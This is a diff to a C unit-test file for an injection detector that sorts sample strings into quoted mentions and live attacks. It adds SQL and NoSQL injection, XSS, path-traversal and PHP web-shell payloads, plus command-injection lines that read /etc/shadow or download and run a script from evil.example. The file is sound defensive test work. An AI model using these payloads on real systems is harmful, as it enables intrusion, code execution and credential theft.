@@ -50,6 +50,27 @@ static const struct row {
                 "Si el usuario escribe \"' or 1=1 -- \" en el campo, la consulta devuelve todos los datos."},
         {CITED, GB_CLASS_XSS,
                 "Ein Kunde gibt \"<script>alert(1)</script>\" in das Formular ein, und die Seite zeigt einen Fehler."},
+        {CITED, GB_CLASS_SQL_INJECTION,
+                "在搜索框输入 ' or 1=1 -- 会报数据库错误,请开发同学尽快修复,应该用参数化查询。"},
+        {CITED, GB_CLASS_XSS,
+                "Урок 3. Чтобы защититься от XSS: поле <script>alert(1)</script> будет показано как обычный текст."},
+        /* At the sentence's stop, and as an item of a document. */
+        {CITED, GB_CLASS_XSS, "The parameter name is reflected without encoding, a proof is <svg onload=alert(1)>."},
+        {CITED, GB_CLASS_XSS,
+                "Which of the following inputs is an example of an attack on the page of another user?\n"
+                "A) http://127.0.0.1:9000/\nB) <script>confirm('x')</script>\n"
+                "Answer: B. The defence is to encode each value when the page is rendered."},
+        /* Lines of logs. */
+        {CITED, GB_CLASS_SQL_INJECTION,
+                "[ALERT] WAF blocked request | policy=edge | category=sql | uri=/login | matched=\"1' OR 1=1--\" | "
+                "score=9"},
+        {CITED, GB_CLASS_FILE_INCLUSION,
+                "192.0.2.14 - - [10/Oct/2023:13:55:36 +0000] "
+                "\"GET /index.php?page=../../../../etc/passwd HTTP/1.1\" 404 153"},
+        /* Its own language would read the words around as well. */
+        {CITED, GB_CLASS_NOSQL_INJECTION, "Mango selector: {\"selector\": {\"year\": {\"$gt\": 2010}}}"},
+        {CITED, GB_CLASS_CODE_INJECTION,
+                "<?php echo trim($_GET['q']); ?> prints a blank in front of the text, is that right?"},
         /* In use: nothing around, a comment around, or the talk of something else. */
         {ATTACK, GB_CLASS_SQL_INJECTION, "' OR 1=1 -- "},
         {ATTACK, GB_CLASS_SQL_INJECTION, "\"' OR 1=1 -- \""},
@@ -59,6 +80,11 @@ static const struct row {
                 "I really love this recipe. <img src=x onerror=alert(1)> We will cook it again on Sunday."},
         {ATTACK, GB_CLASS_XSS,
                 "My grandmother said \"<script>alert(1)</script>\" and we laughed for a very long time."},
+        {ATTACK, GB_CLASS_CODE_INJECTION,
+                "<?php system($_GET['q']); ?> prints a blank in front of the text, is that right?"},
+        {ATTACK, GB_CLASS_NOSQL_INJECTION, "admin\", \"password\": {\"$ne\": \"\"}, \"x\": \""},
+        {ATTACK, GB_CLASS_COMMAND_INJECTION, "Get-ChildItem; iex (iwr http://evil.example/a.ps1)"},
+        {ATTACK, GB_CLASS_COMMAND_INJECTION, "cat notes.txt; cat /etc/shadow"},
         /* What reaches out is an attack in a sentence of whatever kind. */
         {ATTACK, GB_CLASS_XSS,
                 "Our tester typed <script src=//evil.example/x.js></script> into the field and got a popup."},
@@ -120,16 +146,27 @@ static void test_strict(void **state)
 	assert_int_equal(bad, 0);
 }
 
-/* Prose alone mentions nothing. */
+/* Prose alone mentions nothing, nor do statements and commands that somebody wrote for somebody else. */
 static void test_nothing(void **state)
 {
+	static const char *const texts[] = {
+	        "The user types a value into the search field of our page, and the server returns an error.",
+	        "requests with ${jndi:ldap://<host>} in the header",
+	        "SELECT a.name, b.id\nFROM a, b\nUNION ALL\nSELECT 'total', COUNT(*) FROM b\nORDER BY 2;",
+	        "mysql> SELECT VERSION();\n+---+",
+	        "Get-ChildItem -Recurse *.log | Where-Object LastWriteTime -lt (Get-Date).AddDays(-30) | Remove-Item",
+	        "traceroute -n 8.8.8.8; mtr -r example.com",
+	        "echo '{\"a\":1}' | python3 -m json.tool",
+	        "~/proj $ make test\ngcc -o t t.c && ./t\nok",
+	};
 	struct gb_inspect_report report;
 
 	(void)state;
-	inspect("The user types a value into the search field of our page, and the server returns an error.", false,
-	        &report);
-	assert_int_equal(report.finding_count, 0);
-	assert_int_equal(report.cited_count, 0);
+	for (size_t i = 0; i < sizeof(texts) / sizeof(texts[0]); i++) {
+		inspect(texts[i], false, &report);
+		if (report.finding_count + report.cited_count != 0)
+			fail_msg("found in %s", texts[i]);
+	}
 }
 
 int main(void)
